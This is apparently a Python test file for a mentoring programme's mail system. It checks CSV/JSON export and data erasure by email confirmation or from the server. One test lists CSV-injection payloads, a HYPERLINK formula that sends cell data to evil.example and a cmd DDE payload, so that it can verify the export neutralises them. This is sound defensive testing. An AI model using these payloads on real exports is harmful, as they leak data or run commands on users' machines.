"""Erasure by email (after confirmation) and on the server; export for the
committee."""
import csv
import io
import json
import os

from common import ProgrammeTest, form, mail, of_kind, reply

PEOPLE = [
    ("anna@example.org", "mentor", "Anna Keller", "IT", "Software", "en"),
    ("bea@example.org", "mentee", "Béatrice Roux", "IT", "Software", "fr"),
]
NOW = "2026-03-02T09:00"


class Privacy(ProgrammeTest):
    def setUp(self):
        super().setUp()
        self.cli("cohort", "open", "2026", now=NOW)
        self.enrol(PEOPLE, now=NOW)
        self.pair("anna@example.org", "bea@example.org", now=NOW)
        self.once(now=NOW)

    def test_export_csv_and_json(self):
        out = self.cli("export", now=NOW)
        rows = list(csv.DictReader(io.StringIO(out)))
        self.assertEqual(len(rows), 2)
        bea = [r for r in rows if r["address"] == "bea@example.org"][0]
        self.assertEqual(bea["name"], "Béatrice Roux")
        self.assertEqual(bea["partner"], "Anna Keller")
        self.assertEqual(bea["pair_status"], "active")
        data = json.loads(self.cli("export", "--format", "json", "--person", "anna@example.org", now=NOW))
        self.assertEqual(len(data["applications"]), 1)
        self.assertEqual(data["applications"][0]["role"], "mentor")
        self.assertEqual(data["cases"], [])
        r = self.env.run("export", "--format", "xml")
        self.assertEqual(r.returncode, 2)

    def test_csv_cells_are_never_formulas(self):
        """A name written as a formula reached the CSV as it came: a
        spreadsheet would run it (OWASP: CSV injection)."""
        evil = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "eve@example.org"),
                ("+cmd|' /C calc'!A0", "fay@example.org"),
                ("-2+3", "gil@example.org"), ("@SUM(1+1)", "hal@example.org")]
        self.deliver(*[mail(a, "apply", form("mentee", n, "IT", "Software")) for n, a in evil], now=NOW)
        self.deliver(*[reply(self.latest("confirm-request", a), a, "yes") for _, a in evil], now=NOW)
        rows = list(csv.DictReader(io.StringIO(self.cli("export", now=NOW))))
        names = {r["address"]: r["name"] for r in rows}
        for name, address in evil:
            self.assertEqual(names[address], "'" + name)
        # JSON keeps the name as it is
        data = json.loads(self.cli("export", "--format", "json", "--person", "eve@example.org", now=NOW))
        self.assertEqual(data["applications"][0]["name"], evil[0][0])

    def test_forget_me_by_email_needs_confirmation(self):
        env = self.env
        self.deliver(mail("bea@example.org", "oubliez-moi"), now=NOW)
        req = self.latest("confirm-request", "bea@example.org")
        self.assertEqual(req["Content-Language"], "fr")
        # nothing is erased before the confirmation
        self.assertIn("Béatrice Roux", self.cli("export", now=NOW))
        # a forged confirmation from elsewhere does nothing
        self.deliver(reply(req, "mallory@example.net", "yes"), now=NOW)
        self.assertIn("Béatrice Roux", self.cli("export", now=NOW))
        self.deliver(reply(req, "bea@example.org", "oui"), now=NOW)
        self.latest("erased", "bea@example.org")
        out = self.cli("export", now=NOW)
        self.assertNotIn("Béatrice", out)
        self.assertNotIn("bea@example.org", out)
        # her partner hears that she left
        self.assertTrue(of_kind(env, "withdrawn", "anna@example.org"))
        db = env.db()
        self.assertEqual(db.execute("SELECT count(*) FROM people WHERE address = 'bea@example.org'").fetchone()[0], 0)
        self.assertEqual(db.execute("SELECT count(*) FROM inbound WHERE sender = 'bea@example.org'").fetchone()[0], 0)
        db.close()

    def test_forget_on_the_server(self):
        out = self.cli("forget", "anna@example.org", now=NOW)
        self.assertIn("erased", out)
        self.once(now=NOW)
        self.assertTrue(of_kind(self.env, "withdrawn", "bea@example.org"))
        self.assertNotIn("Anna", self.cli("export", now=NOW))


def files_holding(root, needle):
    """Every file under root whose bytes hold needle."""
    out = []
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as f:
                if needle in f.read():
                    out.append(path)
    return out


class ErasureEverywhere(ProgrammeTest):
    """forget leaves nothing of the person in the database file, its log or
    the spool: not in the committee's notice of her case, the digest, the
    introduction, the withdrawal notices or the audit log."""

    CASE = "ZQX the fountain pen went missing"

    def setUp(self):
        super().setUp()
        self.cli("cohort", "open", "2026", now=NOW)
        self.enrol(PEOPLE, now=NOW)
        self.pair("anna@example.org", "bea@example.org", now=NOW)
        self.deliver(mail("bea@example.org", "issue", self.CASE + "\n"), now=NOW)
        self.cli("digest", now=NOW)
        self.once(now=NOW)
        self.state = os.path.join(self.env.root, "state")
        self.gone = [b"bea@example.org", "Béatrice Roux".encode(), b"B=C3=A9atrice Roux",
                     b"Roux", self.CASE.encode()]
        for needle in (b"bea@example.org", b"Roux", self.CASE.encode()):
            self.assertTrue(files_holding(self.state, needle), needle)

    def check_gone(self):
        for needle in self.gone:
            self.assertEqual(files_holding(self.state, needle), [], needle)
        # what is not hers stays
        self.assertTrue(files_holding(self.state, b"Anna Keller"))
        db = self.env.db()
        self.assertEqual(db.execute("SELECT count(*) FROM cases").fetchone()[0], 1)
        self.assertTrue(db.execute("SELECT count(*) FROM audit WHERE action = 'command'").fetchone()[0] > 0)
        db.close()

    def test_forget_by_email(self):
        self.deliver(mail("bea@example.org", "oubliez-moi"), now=NOW)
        self.deliver(reply(self.latest("confirm-request", "bea@example.org"), "bea@example.org", "oui"),
                     now=NOW)
        self.latest("erased", "bea@example.org")
        self.check_gone()

    def test_forget_on_the_server(self):
        self.cli("forget", "bea@example.org", now=NOW)
        # the notices to her partner and the committee go out, then their copies
        self.once(now=NOW)
        self.assertTrue(of_kind(self.env, "withdrawn", "anna@example.org"))
        self.check_gone()
